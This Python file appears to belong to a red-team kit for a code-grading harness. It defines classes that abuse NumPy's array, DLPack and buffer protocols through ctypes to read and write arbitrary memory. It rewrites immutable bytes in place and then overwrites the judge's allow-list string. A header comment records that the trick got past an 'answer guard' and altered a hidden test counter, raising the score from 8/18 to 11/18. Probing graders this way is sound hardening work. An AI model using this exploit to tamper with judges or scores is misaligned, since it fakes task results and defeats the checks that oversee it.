"""Attack: classes of the answer's own whose array and buffer protocols (`__array_interface__`,
`__array_struct__`, `__dlpack__`, `__buffer__`) point NumPy at any address `id()` gives: raw
reads and writes anywhere in the kernel. Each protocol proves it by rewriting a bytes object in
place; then the kit's immutable state is rewritten in place (the judge's allow-list text, as
the kernel holds it)."""
# base: residuals wrong_grad_missing_cos
# class: answer-defined array/buffer protocols
# Under the answer guard, `__array_interface__` rewrote a test's hidden JVP counter: 11/18 against 8/18.
import ctypes
import sys

import numpy as np


class _Raw:
    def __init__(self, address, size):
        self.address, self.size = address, size


class ViaArrayInterface(_Raw):
    @property
    def __array_interface__(self):
        return {"data": (self.address, False), "shape": (self.size,), "typestr": "|u1", "version": 3}


class _ArrayInterfaceStruct(ctypes.Structure):
    _fields_ = [("two", ctypes.c_int), ("nd", ctypes.c_int), ("typekind", ctypes.c_char), ("itemsize", ctypes.c_int),
                ("flags", ctypes.c_int), ("shape", ctypes.POINTER(ctypes.c_ssize_t)),
                ("strides", ctypes.POINTER(ctypes.c_ssize_t)), ("data", ctypes.c_void_p), ("descr", ctypes.c_void_p)]  # fmt: skip


_new_capsule = ctypes.pythonapi.PyCapsule_New
_new_capsule.restype, _new_capsule.argtypes = ctypes.py_object, [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_void_p]
_kept = []  # what the capsules point into stays alive


class ViaArrayStruct(_Raw):
    @property
    def __array_struct__(self):
        shape, strides = (ctypes.c_ssize_t * 1)(self.size), (ctypes.c_ssize_t * 1)(1)
        flags = 0x1 | 0x100 | 0x400  # C-contiguous, aligned, writeable
        struct = _ArrayInterfaceStruct(2, 1, b"u", 1, flags, shape, strides, self.address, None)
        _kept.extend([shape, strides, struct])
        return _new_capsule(ctypes.addressof(struct), None, None)


class _Device(ctypes.Structure):
    _fields_ = [("device_type", ctypes.c_int), ("device_id", ctypes.c_int)]


class _DType(ctypes.Structure):
    _fields_ = [("code", ctypes.c_uint8), ("bits", ctypes.c_uint8), ("lanes", ctypes.c_uint16)]


class _Tensor(ctypes.Structure):
    _fields_ = [("data", ctypes.c_void_p), ("device", _Device), ("ndim", ctypes.c_int), ("dtype", _DType),
                ("shape", ctypes.POINTER(ctypes.c_int64)), ("strides", ctypes.POINTER(ctypes.c_int64)),
                ("byte_offset", ctypes.c_uint64)]  # fmt: skip


class _Version(ctypes.Structure):
    _fields_ = [("major", ctypes.c_uint32), ("minor", ctypes.c_uint32)]


class _ManagedVersioned(ctypes.Structure):
    _fields_ = [("version", _Version), ("manager_ctx", ctypes.c_void_p), ("deleter", ctypes.c_void_p),
                ("flags", ctypes.c_uint64), ("dl_tensor", _Tensor)]  # fmt: skip


class ViaDlpack(_Raw):
    def __dlpack_device__(self):
        return (1, 0)  # CPU

    def __dlpack__(self, stream=None, max_version=None, dl_device=None, copy=None):
        shape = (ctypes.c_int64 * 1)(self.size)
        tensor = _Tensor(self.address, _Device(1, 0), 1, _DType(1, 8, 1), shape, None, 0)
        managed = _ManagedVersioned(_Version(1, 0), None, None, 0, tensor)  # flags 0: writeable
        _kept.extend([shape, managed])
        return _new_capsule(ctypes.addressof(managed), b"dltensor_versioned", None)


class ViaBuffer(_Raw):
    def __buffer__(self, flags):
        return memoryview((ctypes.c_char * self.size).from_address(self.address)).cast("B")


PROTOCOLS = {
    "__array_interface__": lambda a, n: np.asarray(ViaArrayInterface(a, n)),
    "__array_struct__": lambda a, n: np.asarray(ViaArrayStruct(a, n)),
    "__dlpack__": lambda a, n: np.from_dlpack(ViaDlpack(a, n)),
    "__buffer__": lambda a, n: np.frombuffer(memoryview(ViaBuffer(a, n)), np.uint8),
}
_BYTES_DATA = bytes.__basicsize__ - 1  # where a bytes object's characters start
for _name, _view_of in PROTOCOLS.items():
    _target = bytes(f"target of {_name}: unchanged", "ascii")
    try:
        _raw = _view_of(id(_target) + _BYTES_DATA, len(_target))
        _read = _raw.tobytes() == _target
        _raw[:9] = np.frombuffer(b"REWRITTEN", np.uint8)  # a write into an immutable object
        print(f"RAW {_name}: read {'ok' if _read else 'failed'}, write {'ok' if _target.startswith(b'REWRITTEN') else 'failed'}")
    except Exception as _refused:
        print(f"RAW {_name}: refused ({type(_refused).__name__}: {_refused})")

# The kit's immutable state, rewritten in place: the judge's allow-list text as the kernel holds it.
_judge = sys.modules["ch4programs"]
_text = _judge._PURE_STABLEHLO
assert _text.isascii()  # a compact ASCII str: its characters start right after the header
_chars = np.asarray(ViaArrayInterface(id(_text) + sys.getsizeof("") - 1, 9))
_chars[:] = np.frombuffer(b"REWRITTEN", np.uint8)
print("RAW rewrote ch4programs._PURE_STABLEHLO in this kernel:", repr(_judge._PURE_STABLEHLO[:9]))
